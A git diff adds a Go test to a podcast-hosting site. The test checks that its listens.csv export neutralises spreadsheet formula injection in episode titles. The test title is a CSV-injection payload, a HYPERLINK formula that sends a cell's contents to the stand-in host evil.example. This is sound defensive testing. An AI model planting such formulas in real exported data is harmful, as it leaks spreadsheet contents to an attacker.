@@ -187,3 +187,41 @@ func TestHowWeCount(t *testing.T) {
 		t.Errorf("the show page has no link to the page")
 	}
 }
+
+// TestListensCSVFormulasInert: an episode title that a spreadsheet would
+// run as a formula reaches listens.csv as text (a leading quote), like
+// the themes export: one CSV writer for both.
+func TestListensCSVFormulasInert(t *testing.T) {
+	ctx := context.Background()
+	s := newSite(t, storagetest.Dir(t), siteOptions{listens: true, trustedProxies: []string{"127.0.0.1"}})
+	title := `=HYPERLINK("http://evil.example/?"&A1,"clic")`
+	e := s.ingest("mp3", 440, episodes.Upload{Title: title, PublishAt: s.clock.Now()})
+	if code, n := (listener{s, "203.0.113.1", "AntennaPod/3.2.0"}).get(objectPath(e.Media.Key), "", -1); code != 200 || n != e.Media.Size {
+		t.Fatalf("download: got %d with %d bytes", code, n)
+	}
+	if err := s.web.cfg.Listens.Flush(ctx); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.hosts.AddHost(ctx, accounts.Host{Login: "alice", Shows: []string{"lvel"}}, "correct horse"); err != nil {
+		t.Fatal(err)
+	}
+	jar, _ := cookiejar.New(nil)
+	client := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+	resp, err := client.PostForm(s.srv.URL+"/studio/login", url.Values{"login": {"alice"}, "password": {"correct horse"}})
+	if err != nil || resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("sign in: %v %v", resp.Status, err)
+	}
+	resp.Body.Close()
+	resp, err = client.Get(s.srv.URL + "/studio/lvel/listens.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	recs, err := csv.NewReader(resp.Body).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("listens.csv: %d records, %v", len(recs), err)
+	}
+	if got, want := recs[1][3], "'"+title; got != want {
+		t.Errorf("the title cell: got %q, want %q", got, want)
+	}
+}
